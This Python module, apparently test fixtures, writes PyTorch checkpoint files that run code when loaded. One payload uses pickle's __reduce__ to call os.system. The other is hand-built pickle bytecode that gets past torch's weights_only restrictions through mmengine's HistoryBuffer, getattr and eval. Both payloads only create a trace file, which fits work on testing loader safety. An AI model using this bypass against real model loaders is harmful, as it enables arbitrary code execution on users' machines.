"""Checkpoints that run code when they are read carelessly: the code makes a file, and does nothing else."""

from __future__ import annotations

import os
import pickle
import shlex
import struct
import zipfile
from pathlib import Path
from typing import Any

import torch


class Payload:
    """Asks for ``os.system`` when it is read."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self):
        return os.system, (f'touch {shlex.quote(str(self.trace))}',)


def write(path: Path, content: dict[str, Any], trace: Path, **options) -> Path:
    """Save a checkpoint with a payload beside what else it has."""
    torch.save({**content, 'payload': Payload(trace)}, path, **options)
    return path


def write_with_getattr_alone(path: Path, trace: Path) -> Path:
    """Save a checkpoint that names nothing but types the maintained mmengine allows.

    From ``getattr`` and a function of torch it works its way to torch's own list of allowed names, adds ``eval``, and
    calls that. The stack only grows, since torch's reader knows no instruction to drop anything.
    """

    def name(module: str, attribute: str) -> bytes:
        return pickle.GLOBAL + f'{module}\n{attribute}\n'.encode()

    def text(value: str) -> bytes:
        return pickle.BINUNICODE + struct.pack('<I', len(value)) + value.encode()

    def attribute_of(owner: bytes, attribute: str) -> bytes:
        return name('builtins', 'getattr') + owner + text(attribute) + pickle.TUPLE2 + pickle.REDUCE

    put, get = (lambda index: pickle.BINPUT + bytes([index])), (lambda index: pickle.BINGET + bytes([index]))
    function = name('torch._utils', '_rebuild_tensor_v2')
    torch_, eval_ = get(1), get(2)
    code = [
        pickle.PROTO + b'\2',
        # 0: an object whose attributes become the names that the function knows
        name('mmengine.logging.history_buffer', 'HistoryBuffer') + pickle.EMPTY_TUPLE + pickle.NEWOBJ + put(0),
        attribute_of(function, '__globals__') + pickle.BUILD,
        attribute_of(get(0), 'torch') + put(1),
        get(0) + attribute_of(function, '__builtins__') + pickle.BUILD,
        attribute_of(get(0), 'eval') + put(2),
        attribute_of(attribute_of(torch_, '_weights_only_unpickler'), '__dict__'),
        text('_marked_safe_globals_set') + pickle.EMPTY_LIST + eval_ + text('any') + pickle.TUPLE2 + pickle.APPEND,
        pickle.SETITEM,
        eval_ + text(f'open({str(trace)!r}, "w")') + pickle.TUPLE1 + pickle.REDUCE,
        pickle.STOP,
    ]
    torch.save({}, path)
    with zipfile.ZipFile(path) as file:
        entries = {entry: file.read(entry) for entry in file.namelist()}
    with zipfile.ZipFile(path, 'w') as file:
        for entry, data in entries.items():
            file.writestr(entry, b''.join(code) if entry.endswith('data.pkl') else data)
    return path
